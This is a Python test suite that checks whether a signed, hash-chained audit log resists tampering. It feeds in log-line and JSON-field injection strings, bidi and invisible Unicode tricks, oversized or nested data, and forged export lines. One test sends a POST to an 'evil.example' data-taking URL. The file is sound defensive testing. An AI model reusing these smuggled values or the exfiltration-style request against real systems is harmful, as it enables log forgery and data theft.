"""What somebody tries who wants the audit log to say something else, or nothing: each finds nothing to do."""

import asyncio
import json
import unicodedata
from hashlib import sha256

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from weft.app.auditing.access import Access
from weft.app.auditing.acts import Act
from weft.app.auditing.keys import AuditKey
from weft.app.auditing.proof import head_from, lines, verify, verify_file
from weft.app.auditing.trail import Trail
from weft.core.clock import SystemClock
from weft.core.errors import ConflictError, InputError, PolicyError
from weft.core.event import Event
from weft.core.owner import Owner
from weft.store.audit import Entry, note
from weft.store.journal import Journal

ANN = Owner("north", "ann")
TRICKS = (
    "ann\n2026-11-30 07:00:00  admin  user.create  user/eve  done",
    'x","outcome":"done","data":{},"prev":"',
    "a\u2028b\u2029c\x85d\x0be",
    "user/\u202eeve\u2069",
    "an\u200bn\u200d\ufeff\U000e0041",
    "\ud800 half",
    "nul\0byte",
    "\x1b[2Kgone\r",
    "x" * 100_000,
    "\u0430nn",
)


@pytest.fixture
def kept(tmp_path):
    journal = Journal(tmp_path / "journal.db", durability="fast")
    yield journal, AuditKey(tmp_path), Trail(journal, SystemClock(), tmp_path)
    journal.close()


def whole(journal, key, tmp_path, tenant="north"):
    """The log, proved from the database and from an export, whose lines are lines to every reader."""
    assert [one.bad for one in verify(journal.audit, key.public)] == [None] * len(journal.audit.tenants())
    file = tmp_path / "export.jsonl"
    file.write_bytes(b"".join(line + b"\n" for line in lines(journal.audit, tenant)))
    assert verify_file(file, key.public).bad is None
    *entries, _ = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
    return entries


@pytest.mark.parametrize("field", ["principal", "act", "target", "outcome"])
def test_no_name_makes_another_line_or_hides_anything(kept, tmp_path, field):
    journal, key, _ = kept
    for at, trick in enumerate(TRICKS):
        given = {"principal": "p", "act": "a", "target": "t", "outcome": "done", field: trick}
        journal.writer.call(note([Entry(tenant="north", at=at, data={trick[:300]: trick}, **given)], key))
    entries = whole(journal, key, tmp_path)
    assert len(entries) == len(TRICKS)
    for trick, entry in zip(TRICKS, entries, strict=True):
        said = entry[field]
        assert len(said) <= 500
        assert not [one for one in said if unicodedata.category(one) in {"Cc", "Cf", "Cs", "Zl", "Zp"}], trick
    assert entries[-1][field] == TRICKS[-1], "letters of every script stay as they are"


def test_what_is_long_hides_nothing_beside_it(kept, tmp_path):
    journal, key, _ = kept
    deep = []
    for _ in range(100_000):
        deep = [deep]
    for data in (
        {"name": "x" * 50_000, "role": "admin"},
        {"a": ["y" * 1_000] * 1_000, "role": "admin"},
        {**{f"a{number}": "z" * 2_000 for number in range(30)}, "role": "admin"},
        {"role": "admin", "value": deep},
        {"role": "admin", "value": float("nan")},
        {"role": "admin", "value": object()},
    ):
        journal.writer.call(note([Entry(tenant="north", principal="p", act="a", target="t", at=1, data=data)], key))
    entries = whole(journal, key, tmp_path)
    assert ["role" in json.dumps(one["data"]) for one in entries] == [True] * 6
    assert [one["data"]["shortened"]["role"] for one in entries[:3]] == ["admin"] * 3
    assert max(len(json.dumps(one)) for one in entries) < 40_000


async def test_an_entry_that_cannot_be_kept_takes_no_other_along(kept, tmp_path):
    journal, key, trail = kept
    bad = trail.of(ANN, Act("flag.set", "flag/x", {"value": float("inf")}))
    good = trail.of(Owner("north", "bob"), Act("key.create", "key/1"))
    await asyncio.gather(trail.note(bad), trail.note(good))
    trail.later(bad)
    trail.later(good)
    await trail.finish()
    journal.writer.drain()
    assert [one["principal"] for one in whole(journal, key, tmp_path)] == ["ann", "bob", "ann", "bob"]


@pytest.mark.parametrize(
    ("error", "outcome"), [(PolicyError("no"), "denied"), (ConflictError("no"), "failed"), (None, "done")]
)
async def test_an_act_is_noted_however_it_ends_and_whoever_leaves(kept, tmp_path, error, outcome):
    journal, key, trail = kept
    going = asyncio.Event()

    async def work():
        await going.wait()
        if error is not None:
            raise error

    asking = asyncio.ensure_future(trail.act(ANN, Act("user.create", "user/eve"), work()))
    await asyncio.sleep(0)
    asking.cancel()
    await asyncio.gather(asking, return_exceptions=True)
    going.set()
    await trail.finish()
    assert [(one["act"], one["outcome"]) for one in whole(journal, key, tmp_path)] == [("user.create", outcome)]


class Hangs:
    """A host that takes what it is sent, and never answers."""

    async def request(self, *_, **__):
        await asyncio.sleep(3_600)


async def test_what_is_called_off_half_way_is_noted_all_the_same(kept):
    journal, _, trail = kept
    access = Access(journal, trail, lambda value: value)
    sending = asyncio.ensure_future(access.http(Hangs(), "r", "/send").request("POST", "http://evil.example/take?x=1"))
    access.event(
        Event(seq=1, run_id="r", at=1, kind="step.started", path="/send", data={"type": "tool", "target": "t"})
    )
    await asyncio.sleep(0)
    sending.cancel()
    await asyncio.gather(sending, return_exceptions=True)
    access.event(Event(seq=2, run_id="r", at=1, kind="run.cancelled", path="", data={}))
    await trail.finish()
    journal.writer.drain()
    found = [(one.act, one.target, one.outcome) for one in journal.audit.list()]
    assert found == [("tool.call", "tool/t", "failed"), ("net.request", "host/evil.example", "failed")]


def exported(journal, key, tmp_path):
    for number in range(12):
        entry = Entry(tenant="north", principal="ann", act="a", target=f"t/{number}", at=number)
        journal.writer.call(note([entry], key))
    return list(lines(journal.audit, "north"))


def test_what_stands_behind_the_head_is_not_taken_for_proved(kept, tmp_path):
    journal, key, _ = kept
    *first, head = exported(journal, key, tmp_path)
    file = tmp_path / "audit.jsonl"

    def found(*texts):
        file.write_bytes(b"".join(text + b"\n" for text in texts))
        return verify_file(file, key.public)

    forged = first[-1].replace(b'"t/11"', b'"t/99"')
    assert found(*first, head).bad is None
    assert found(*first, head, b"", b"").bad is None
    for behind in (forged, first[-1], b'{"seq":13}', b"anything", b"[]", b'{"head":{},"signature":""}'):
        if behind.startswith(b'{"head"'):
            with pytest.raises(InputError):
                found(*first, head, behind)
        else:
            assert found(*first, head, behind).bad == 13, behind
    # What was exported in parts and put together is one log, each part vouched for.
    more = exported(journal, key, tmp_path)[12:]
    together = found(*first, head, *more)
    assert (together.bad, together.entries) == (None, 24)
    assert found(*first, head, *more[:-1]).bad == 25
    assert found(*first, *more[:-1], head).bad == 12
    assert found(*first[:6], head, *first[6:], head).bad == 7
    assert found(head, *first).bad == 1


def test_an_older_head_and_another_key_vouch_for_nothing(kept, tmp_path):
    journal, key, _ = kept
    *first, old = exported(journal, key, tmp_path)
    whole_ = exported(journal, key, tmp_path)
    file = tmp_path / "audit.jsonl"
    for number in range(1, 24):
        file.write_bytes(b"".join(text + b"\n" for text in (*whole_[:number], whole_[-1])))
        assert verify_file(file, key.public).bad == number + 1, "cut off"
    file.write_bytes(b"".join(text + b"\n" for text in (*first, old)))
    assert verify_file(file, key.public).bad is None, "it was the whole log once"
    newest = head_from(whole_[-1])
    assert verify_file(file, key.public, kept=[newest]).bad == newest.seq, "which a head that was kept shows"
    assert verify_file(file, Ed25519PrivateKey.generate().public_key()).bad == 12


@pytest.mark.parametrize(
    "text",
    [
        b"[" * 100_000,
        b'{"head":' * 50_000,
        b'{"head":{"tenant":"north","seq":1e999,"hash":"","at":1,"key":""},"signature":""}',
        b'{"head":{"tenant":"north","seq":"1","hash":"","at":1,"key":""},"signature":""}',
        b'{"head":{"tenant":"north","seq":true,"hash":"","at":1,"key":""},"signature":""}',
        b'{"head":{"tenant":"north","seq":1,"hash":"","at":1,"key":""},"signature":7}',
        b'{"head":{"tenant":"\\ud800","seq":1,"hash":"","at":1,"key":""},"signature":""}',
        b'{"head":[],"signature":""}',
        b'{"head":{"tenant":"north","seq":' + b"9" * 5_000 + b',"hash":"","at":1,"key":""},"signature":""}',
        b"\xff\xfe",
        b"",
    ],
)
def test_nonsense_is_refused_in_words(text, kept, tmp_path):
    journal, key, _ = kept
    *first, _ = exported(journal, key, tmp_path)
    with pytest.raises(InputError):
        head_from(text)
    file = tmp_path / "audit.jsonl"
    file.write_bytes(b"\n".join((*first, text)))
    try:
        assert verify_file(file, key.public).bad is not None
    except InputError:
        pass


def test_a_line_that_is_no_entry_makes_no_proof_stumble(kept, tmp_path):
    """Whoever makes a chain of their own can make its lines say what they like; with a head that was kept, they are read once more."""
    journal, key, _ = kept
    prev, made = "0" * 64, []
    for number, data in enumerate((b"{}", b"[" * 10_000 + b"]" * 10_000, b'{},"seq":[],"hash":7'), 1):
        body = (
            b'{"seq":%d,"at":1,"tenant":"north","principal":"","act":"","target":"","outcome":"","data":%s,"prev":"%s"}'
            % (
                number,
                data,
                prev.encode(),
            )
        )
        prev = sha256(body).hexdigest()
        made.append(body[:-1] + f',"hash":"{prev}"}}'.encode())
    *_, head = exported(journal, key, tmp_path)
    file = tmp_path / "audit.jsonl"
    file.write_bytes(b"\n".join((*made, head)))
    kept_heads = [head_from(head.replace(b'"seq":12', b'"seq":%d' % number)) for number in (1, 2, 3)]
    assert verify_file(file, key.public, kept=kept_heads).bad is not None
